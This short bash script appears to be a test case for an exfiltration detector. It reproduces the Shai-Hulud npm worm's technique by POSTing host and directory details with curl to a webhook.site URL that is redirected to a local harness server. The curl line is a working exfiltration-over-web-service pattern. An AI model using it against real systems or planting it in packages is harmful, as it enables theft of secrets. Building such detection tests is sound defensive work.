#!/bin/bash
# technique: T1567 Exfiltration Over Web Service; T1552.001 Unsecured Credentials
# reproduces: Shai-Hulud (npm, September 2025) posted stolen secrets to a webhook.site URL; here curl is told where webhook.site is (`--resolve`), so no DNS query for the name is ever sent
# expect: exfiltration-service-url ^curl$
# exec-borne: no
#
# The "webhook.site" is the harness's loopback server.
set -u

PORT=${BW_ATTACK_PORT:?}
report=$(printf '{"host":"%s","cwd":"%s"}' "$(hostname)" "$PWD")
curl -s -m 5 --resolve "webhook.site:$PORT:127.0.0.1" \
	-H 'Content-Type: application/json' -d "$report" \
	"http://webhook.site:$PORT/0b1e6a52-7c2d-4f0e-9d43-5a1c9e2b7f10" >/dev/null
